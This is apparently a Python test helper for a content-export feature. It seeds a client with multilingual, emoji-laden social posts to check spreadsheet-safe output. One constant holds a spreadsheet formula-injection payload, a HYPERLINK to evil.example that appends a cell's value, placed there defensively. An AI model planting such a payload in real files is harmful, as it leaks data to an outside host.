"""A client whose pieces are hard to write down: six platforms, five scripts, and cells that would calculate."""

import asyncio
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import tenancy
from app.exports.registry import ExportPromise
from app.hubs.models import Hub, Pillar
from app.kit import ids
from app.progress.events import ExportComplete
from app.resources import Resources
from app.spokes.models import Spoke
from app.vocabulary import ContentType, HubStatus, PillarStatus, Platform, SourceType, SpokeStatus
from tests.api import Api
from tests.graphql_schema.content import spoke_in

CREATE = """mutation($input: CreateExportInput!) {
  createExport(input: $input) { id format status itemCount url expiresAt }
}"""
READ = """query($id: ID!) { client(id: $id) { exports { totalCount nodes {
  id format status itemCount sizeBytes sha256 errorMessage url expiresAt createdAt completedAt
} } } }"""
APPROVED_AT = datetime(2026, 3, 2, 9, 30, 15, tzinfo=UTC)
SOURCE = "One loaf in three was never sold. 毎日。 We counted, and then we stopped baking after three."
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click, please")'
SLIDES = {
    "slides": [
        {"index": number, "title": f"Title {number}", "body": f"Body, with “quotes” {number}"} for number in range(1, 6)
    ],
    "caption": "-1 +1 the caption",
}
POSTS = {"posts": [f"{number}/7 post, “{number}”" for number in range(1, 8)]}
WORDS: list[tuple[Platform, str, dict[str, Any] | None]] = [
    (Platform.TWITTER, FORMULA, None),
    (Platform.TWITTER, "  \"+1 'quoted', and,\ncommas\r\nover lines\t👩‍👩‍👧‍👦 🇯🇵", None),
    (Platform.LINKEDIN, "売れ残りを数えた。\n\n三つに一つは売れなかった。", None),
    (Platform.LINKEDIN, "أحصينا كل رغيف. שלושה לחמים, 38%.", None),
    (Platform.INSTAGRAM, "＝SUM(A1) is full-width; \u200b@here hides", None),
    (Platform.TIKTOK, "[Camera on the empty shelf] 'Sold out' is a promise; that's it.", None),
    (
        Platform.CAROUSEL,
        "\n\n".join(f"{n}/5 Title {n}\nBody, with “quotes” {n}" for n in range(1, 6)) + "\n\n---\n-1 +1 the caption",
        SLIDES,
    ),
    (Platform.THREAD, "\n\n".join(POSTS["posts"]), POSTS),
]


@dataclass(frozen=True)
class Scene:
    owner: Api
    client_id: str
    hubs: list[str]
    pieces: list[str]
    """Approved ones, in the order of the files."""
    manual: str


async def scene_in(api: Api, owner: Api) -> Scene:
    """Everything of WORDS approved in the first hub, under its second pillar; one more of each state in the other."""
    client_id = await owner.create_client("Bäckerei & Söhne")
    async with tenancy.bind(client_id), tenancy.transaction():
        hubs = [await _hub("Bread, “daily”"), await _hub("=Second")]
        pillars = [await _pillar(hubs[0], "Less", 1), await _pillar(hubs[0], "First, but empty", 0)]
        pieces = [await _approved(hubs[0], pillars[0], words) for words in WORDS]
        for status in (SpokeStatus.PENDING, SpokeStatus.REJECTED, SpokeStatus.KILLED):
            await spoke_in(hubs[1], None, content=f"It is {status}.", status=status)
        await spoke_in(hubs[1], None, content="Half-written.", is_settled=False)
        manual = await _approved(None, None, (Platform.TWITTER, "It outlived its hub.", None))
    ordered = [spoke.id for spoke in sorted(pieces, key=lambda spoke: (spoke.platform, spoke.id))]
    return Scene(owner, client_id, hubs, [*ordered, manual.id], manual.id)


async def _hub(title: str) -> str:
    hub = await Hub.create(
        id=ids.new_id(),
        registry_id=ids.new_id(),
        title=title,
        source_type=SourceType.TEXT,
        source_content=SOURCE,
        language="en",
        themes=["bread"],
        claims=["One loaf in three"],
        status=HubStatus.READY,
    )
    return hub.id


async def _pillar(hub_id: str, title: str, place: int) -> str:
    pillar = await Pillar.create(
        hub_id=hub_id,
        title=title,
        angle="Bake less",
        key_points=["Count."],
        spans=[[0, 33]],
        order_index=place,
        status=PillarStatus.ACTIVE,
    )
    return pillar.id


async def _approved(
    hub_id: str | None, pillar_id: str | None, words: tuple[Platform, str, dict[str, Any] | None]
) -> Spoke:
    platform, content, structure = words
    kinds = {Platform.CAROUSEL: "carousel", Platform.THREAD: "thread", Platform.TIKTOK: "script"}
    return await spoke_in(
        hub_id,
        pillar_id,
        platform=platform,
        content_type=ContentType(kinds.get(platform, "post")),
        content=content,
        content_json=structure,
        status=SpokeStatus.APPROVED,
        approved_at=APPROVED_AT,
        is_mutated=hub_id is None,
        sources=[[0, 33]],
        g2=87.25,
    )


async def exported(scene: Scene, resources: Resources, format: str, **input: Any) -> tuple[dict[str, Any], bytes]:
    """The export once it is over, and its file: downloaded by nobody in particular."""
    with resources.bus.watch(scene.client_id) as watch:
        asked = {"clientId": scene.client_id, "format": format, **input}
        made = (await scene.owner.run(CREATE, input=asked))["createExport"]
        assert made == {
            "id": made["id"], "format": format, "status": "QUEUED", "itemCount": 0, "url": None, "expiresAt": None
        }  # fmt: skip
        async with asyncio.timeout(30):
            async for event in watch:
                if isinstance(event, ExportComplete) and event.export_id == made["id"]:
                    break
    nodes = (await scene.owner.run(READ, id=scene.client_id))["client"]["exports"]["nodes"]
    [row] = [node for node in nodes if node["id"] == made["id"]]
    if row["url"] is None:
        return row, b""
    answer = await scene.owner.http.get(path_of(row["url"]))
    assert answer.status_code == 200
    return row, answer.content


async def promises_kept() -> None:
    """Until no export is looked for at the next start: that is written last."""
    async with asyncio.timeout(10):
        while await ExportPromise.exists():  # each look gives way to others
            pass


def path_of(url: str) -> str:
    """The part of a link that the server in this process serves."""
    return "/" + url.split("/", 3)[3]
